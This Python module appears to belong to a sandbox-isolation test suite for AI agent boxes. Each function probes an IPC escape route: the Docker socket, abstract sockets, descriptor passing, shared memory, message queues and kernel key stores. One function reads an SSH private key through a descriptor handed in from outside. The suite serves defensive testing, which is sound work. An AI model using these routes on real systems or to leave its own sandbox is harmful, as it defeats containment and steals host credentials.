"""Talking around the walls: sockets, shared memory, queues, keys, descriptors handed on."""

from __future__ import annotations

import array
import ctypes
import os
import socket

from .attack import Blocked, Facts, any_of, attack, read, secret
from .calls import attach, call, in_child, text

_SESSION, _USER = -3, -4
_READ, _SEARCH, _LINK, _JOIN = 11, 10, 8, 1


def _hello(path: str) -> bytes:
    with socket.socket(socket.AF_UNIX) as unix:
        unix.settimeout(3)
        unix.connect(path)
        unix.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return unix.recv(4096)


@attack("ipc")
def unix_abstract(facts: Facts) -> str:
    """Reach a service of the user by a socket without a file, like D-Bus or X."""
    return secret(facts, _hello("\0" + facts.abstract), "an abstract socket")


@attack("files")
def unix_docker_sock(facts: Facts) -> str:
    """Reach the container engine by its socket, and with it the whole machine."""
    return secret(facts, _hello(facts.docker), facts.docker)


@attack("files")
def unix_relay(facts: Facts) -> str:
    """The same through a link in the workspace."""
    link = f"{facts.workspace}/engine"
    os.symlink(facts.docker, link)
    try:
        return secret(facts, _hello(link), "a link to a socket")
    finally:
        os.unlink(link)


@attack("files")
def unix_datagram(facts: Facts) -> str:
    """Write to the host's log by its socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as unix:
        unix.connect(f"{facts.home}/log.sock")
        unix.send(facts.canary.encode())
    return "wrote to the host's log"


def _descriptor(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as unix:
        unix.settimeout(3)
        unix.connect(path)
        unix.sendall(b"descriptor, please")
        room = socket.CMSG_SPACE(array.array("i").itemsize)
        _, parts, _, _ = unix.recvmsg(16, room)
    handed = array.array("i")
    for _level, _kind, data in parts:
        handed.frombytes(data[:4])
    if not handed:
        raise Blocked("no descriptor came")
    return f"/proc/self/fd/{handed[0]}"


@attack("ipc")
def scm_rights_in(facts: Facts) -> str:
    """Be handed an open folder of the host by somebody outside."""

    def one(path: str) -> str:
        folder = os.open(_descriptor(path), os.O_RDONLY)
        key = os.open(".ssh/id_ed25519", os.O_RDONLY, dir_fd=folder)
        return secret(facts, os.read(key, 4096), "a folder that was handed in")

    paths = ("\0" + facts.abstract, facts.docker)
    return any_of([lambda p=path: one(p) for path in paths])


@attack("ipc")
def scm_rights_out(facts: Facts) -> str:
    """Hand an open folder of the box to another agent."""

    def one(path: str) -> str:
        with socket.socket(socket.AF_UNIX) as unix:
            unix.settimeout(3)
            unix.connect(path)
            here = os.open(facts.workspace, os.O_RDONLY)
            data = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [here]))]
            unix.sendmsg([b"yours"], data)
            unix.shutdown(socket.SHUT_WR)
            return secret(facts, unix.recv(64), "what the other says about the folder")

    names = ("\0" + facts.neighbour["abstract"], facts.neighbour["socket"])
    return any_of([lambda n=name: one(n) for name in names])


@attack("ipc")
def neighbour_abstract(facts: Facts) -> str:
    """Reach another agent's command by a socket without a file."""
    with socket.socket(socket.AF_UNIX) as unix:
        unix.settimeout(3)
        unix.connect("\0" + facts.neighbour["abstract"])
    return "connected"


@attack("ipc")
def sysv_shm(facts: Facts) -> str:
    """Read the SysV shared memory of a process of the host."""
    return secret(facts, attach(call("shmget", facts.shm, 0, 0o400)), "shared memory")


@attack("ipc")
def sysv_list(facts: Facts) -> str:
    """See which shared memory, queues and semaphores the host has."""
    found = read("/proc/sysvipc/shm", 1 << 20).decode().split()
    if str(facts.shm) in found:
        return "the host's segments are listed"
    raise Blocked("only the box's own are listed")


@attack("ipc")
def dev_shm_file(facts: Facts) -> str:
    """Read what a process of the host has in /dev/shm."""
    return secret(facts, read(facts.shared_file), facts.shared_file)


@attack("ipc")
def posix_mq(facts: Facts) -> str:
    """Take a message out of a queue of the host."""
    queue = call("mq_open", text(facts.queue), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    room, priority = ctypes.create_string_buffer(8192), ctypes.c_uint()
    size = call("mq_timedreceive", queue, room, 8192, ctypes.byref(priority), None)
    return secret(facts, room.raw[:size], "a message queue")


@attack("seccomp")
def keyctl_session(_facts: Facts) -> str:
    """Use the kernel's key store, which no namespace divides."""

    def work() -> str:
        call("keyctl", _JOIN, None)
        return "has a key ring"

    return in_child(work)


@attack("seccomp")
def keyctl_host_key(facts: Facts) -> str:
    """Read a key that a process of the same user left in the kernel."""

    def work() -> str:
        number = call("keyctl", _SEARCH, _USER, text("user"), text(facts.key), 0)
        room = ctypes.create_string_buffer(4096)
        size = call("keyctl", _READ, number, room, 4096)
        return secret(facts, room.raw[:size], "the kernel's key store")

    return in_child(work)


@attack("seccomp")
def keyctl_by_number(facts: Facts) -> str:
    """Read the same key by its number, taken from /proc/keys."""
    for line in read("/proc/keys", 1 << 20).decode().splitlines():
        if facts.key in line:
            number = int(line.split()[0], 16)
            room = ctypes.create_string_buffer(4096)
            call("keyctl", _LINK, _USER, _SESSION)
            size = call("keyctl", _READ, number, room, 4096)
            return secret(facts, room.raw[:size], "the kernel's key store")
    raise Blocked("it is not listed")


@attack("seccomp")
def request_key_upcall(facts: Facts) -> str:
    """Have the kernel start its key program on the host, as root, with words of ours."""
    try:
        call("request_key", text("user"), text(f"none-{facts.canary}"), text("-"), _SESSION)
    except OSError as error:
        if error.errno == 126:
            return "the kernel asked its program on the host"
        raise
    return "a key came"
